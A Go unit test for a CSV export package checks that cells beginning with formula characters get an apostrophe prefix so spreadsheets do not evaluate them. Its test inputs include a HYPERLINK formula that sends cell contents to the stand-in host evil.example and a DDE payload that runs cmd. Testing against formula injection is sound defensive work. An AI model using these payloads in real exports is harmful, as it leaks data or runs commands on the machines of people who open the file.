package export

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestFormulaCellsAreNeutralized(t *testing.T) {
	cases := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+1+1":          "'+1+1",
		"-2+3":          "'-2+3",
		"@SUM(A1:A2)":   "'@SUM(A1:A2)",
		"\t=1":          "'\t=1",
		"\r=1":          "'\r=1",
		"plain title":   "plain title",
		"a=b":           "a=b",
		"":              "",
		"CVE-2024-1234": "CVE-2024-1234",
	}
	for in, want := range cases {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
	var buf bytes.Buffer
	w := NewCSVWriter(&buf)
	if err := w.Write([]string{"1", "=cmd|' /C calc'!A0", "ok"}); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	rec, err := csv.NewReader(&buf).Read()
	if err != nil {
		t.Fatal(err)
	}
	if rec[1] != "'=cmd|' /C calc'!A0" || rec[0] != "1" || rec[2] != "ok" {
		t.Fatalf("written %q", rec)
	}
}
